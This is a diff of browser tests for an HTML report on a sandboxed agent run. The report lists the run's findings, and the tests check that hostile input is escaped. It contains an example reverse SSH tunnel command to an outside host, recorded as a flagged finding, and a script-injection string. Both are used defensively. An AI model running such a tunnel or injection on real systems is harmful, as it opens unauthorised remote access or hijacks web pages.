@@ -72,15 +72,14 @@ def rows(page: Any, part: str) -> list[list[str]]:
 
 
 def test_the_head_and_the_findings_come_first(page):
-    assert page.title() == "container:rome-1: what it did"
-    assert page.locator("h1").inner_text() == "What the run did"
+    assert page.title() == "container:rome-1: 2 critical, 1 medium"
     head = page.locator("#run-head").inner_text()
     assert "rome-1 of sandbox/agent:latest: observed where nothing can leave" in head
     assert "stopped: time limit of 60 s" in head
-    found = page.locator(".finding h3").all_inner_texts()
-    assert found[0].lower().startswith("critical asked 203.0.113.9:22 for a tunnel back to port 2222")
+    found = page.locator("li.finding").all_inner_texts()
+    assert "asked 203.0.113.9:22 for a tunnel back to port 2222" in found[0]
     assert len(found) == 3
-    assert "4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9" in page.locator(".finding").first.inner_text()
+    assert "4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9" in found[0]
 
 
 def test_what_was_tried_and_asked_are_tables(page):
@@ -118,14 +117,22 @@ def test_changes_processes_sockets_and_gaps_are_told(page):
 def test_a_run_alone_brings_no_graph(files):
     text = files["rome"].read_text()
 
-    assert len(text) < 60_000
+    assert len(text) < 90_000
     assert "cytoscape(" not in text
     assert 'id="graph"' not in text
 
 
 def test_a_run_and_a_launch_are_one_page(browser, files):
     with opened(browser, files["joined"]) as page:
-        assert page.locator("h1").inner_text() == "What the run did, and what each sandbox reaches"
+        contents = page.locator("#contents a").all_inner_texts()
+        assert [one.rstrip(" 0123456789") for one in contents] == [
+            "At a glance",
+            "Findings",
+            "Layers",
+            "What the run did",
+            "What each sandbox reaches",
+            "About this report",
+        ]
         cells = [
             " ".join(one.split())
             for one in page.locator("#matrix-frame tbody tr").first.locator("td").all_inner_texts()
@@ -152,7 +159,7 @@ def test_a_run_and_a_launch_are_one_page(browser, files):
 def test_a_run_that_showed_little_is_a_page(browser, tmp_path, report):
     (tmp_path / "q.html").write_text(html.render(report, PLAIN))
     with opened(browser, tmp_path / "q.html") as page:
-        assert page.locator("#findings").inner_text().startswith("Nothing found: 3 rules over one run")
+        assert page.locator("#nothing").inner_text().startswith("Nothing found: 3 rules over one run")
         assert page.locator("#tried-part").is_hidden()
         assert page.locator("#timeline").is_visible() == bool(report.run and report.run.changes)
 
@@ -246,8 +253,8 @@ def test_axe_finds_nothing_wrong(browser, files, name, scheme):
 
 
 def test_nothing_is_wider_than_a_phone(browser, files):
-    with opened(browser, files["joined"], viewport={"width": 390, "height": 800}) as page:
-        assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    with opened(browser, files["joined"], viewport={"width": 320, "height": 800}) as page:
+        assert page.evaluate("document.documentElement.scrollWidth") <= 320
 
 
 def test_paper_is_white_and_has_no_controls(browser, files):
@@ -263,7 +270,7 @@ def test_hostile_words_stay_text(browser, tmp_path):
     (tmp_path / "h.html").write_text(html.render(runs.spiteful(SPITE, 200), PLAIN))
     with opened(browser, tmp_path / "h.html") as page:
         assert page.locator("img").count() == 0
-        assert page.locator("script").count() == 2
+        assert page.locator("script").count() == 3
         assert page.title() != "taken"
         shown = page.locator("body").inner_text()
         assert '</script><script>document.title="taken"' in shown
